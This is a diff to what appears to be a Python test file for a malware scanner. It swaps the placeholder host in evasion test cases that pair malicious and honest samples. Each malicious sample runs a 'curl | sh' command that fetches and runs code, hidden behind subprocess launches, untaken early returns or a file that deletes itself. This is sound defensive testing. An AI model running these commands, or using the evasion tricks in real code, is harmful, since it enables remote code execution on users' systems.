@@ -4,7 +4,7 @@ from __future__ import annotations
 
 from tests.evasions.sample import Evasion, evasion
 
-_PAYLOAD = "    import os\n    os.system('curl -s http://192.0.2.7/a | sh')\n"
+_PAYLOAD = "    import os\n    os.system('curl -s https://stage.example.invalid/a | sh')\n"
 _HONEST = "    import os\n    X = os.sep\n"
 
 
@@ -61,7 +61,7 @@ CASES = (
         "main guard in a module that is started as a process",
         {
             "example_pkg/__init__.py": "import subprocess, sys\nsubprocess.Popen([sys.executable, '-m', 'example_pkg.work'])\n",
-            "example_pkg/work.py": "import os\nif __name__ == '__main__':\n    os.system('curl -s http://192.0.2.7/a | sh')\n",
+            "example_pkg/work.py": "import os\nif __name__ == '__main__':\n    os.system('curl -s https://stage.example.invalid/a | sh')\n",
         },
         {
             "example_pkg/__init__.py": "",
@@ -70,12 +70,12 @@ CASES = (
     ),
     evasion(
         "behind an early return that is not taken",
-        "import os\n\ndef go():\n    if os.getenv('NOPE'):\n        return\n    os.system('curl -s http://192.0.2.7/a | sh')\n\ngo()\n",
+        "import os\n\ndef go():\n    if os.getenv('NOPE'):\n        return\n    os.system('curl -s https://stage.example.invalid/a | sh')\n\ngo()\n",
         "import os\n\ndef go():\n    if os.getenv('NOPE'):\n        return\n    print(os.sep)\n\ngo()\n",
     ),
     evasion(
         "file deletes itself afterwards",
-        "import os\nos.system('curl -s http://192.0.2.7/a | sh')\nos.remove(__file__)\n",
+        "import os\nos.system('curl -s https://stage.example.invalid/a | sh')\nos.remove(__file__)\n",
         "import os, tempfile\nfd, p = tempfile.mkstemp()\nos.close(fd)\nos.remove(p)\n",
     ),
 )
